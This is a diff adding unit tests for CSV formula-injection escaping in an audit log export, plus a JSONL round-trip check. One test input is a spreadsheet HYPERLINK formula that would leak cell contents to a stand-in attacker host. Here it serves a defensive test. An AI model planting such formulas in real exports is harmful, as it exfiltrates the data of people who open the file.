@@ -48,10 +48,35 @@ describe('audit export formats', () => {
     expect(AUDIT_CSV_HEADER).toBe(`${AUDIT_FIELDS.join(',')}\r\n`)
   })
 
+  it('neutralises CSV cells a spreadsheet would run as formulas (SPEC 4.4)', () => {
+    expect(csvField('=1+2')).toBe(`"'=1+2"`)
+    expect(csvField('+1+2')).toBe(`"'+1+2"`)
+    expect(csvField('-1+2')).toBe(`"'-1+2"`)
+    expect(csvField('@SUM(1,2)')).toBe(`"'@SUM(1,2)"`)
+    expect(csvField('\t=1+2')).toBe(`"'\t=1+2"`)
+    expect(csvField('\r=1+2')).toBe(`"'\r=1+2"`)
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"open")')).toBe(
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
+    )
+    // Text that looks like a negative number is still text; a number is data.
+    expect(csvField('-1')).toBe(`"'-1"`)
+    expect(csvField(-1)).toBe('-1')
+    expect(csvField(true)).toBe('true')
+    // Only the first character counts; a value already starting with ' is left alone.
+    expect(csvField('1+2=3')).toBe('1+2=3')
+    expect(csvField("'=x")).toBe("'=x")
+    expect(csvField(' =1+2')).toBe(' =1+2')
+    const row = exportLine({ ...entry, evidence: '=1+2', decisionId: '@d' }, 'csv')
+    expect(row).toContain(`,"'@d",`)
+    expect(row).toContain(`,"'=1+2",`)
+  })
+
   it('writes one JSON line per entry that parses back to the entry', () => {
     const line = exportLine(entry, 'jsonl')
     expect(line.endsWith('\n')).toBe(true)
     expect(JSON.parse(line)).toEqual(entry)
+    const formula = { ...entry, evidence: '=1+2' }
+    expect(JSON.parse(exportLine(formula, 'jsonl'))).toEqual(formula)
   })
 
   it('names export files by customer and day', () => {
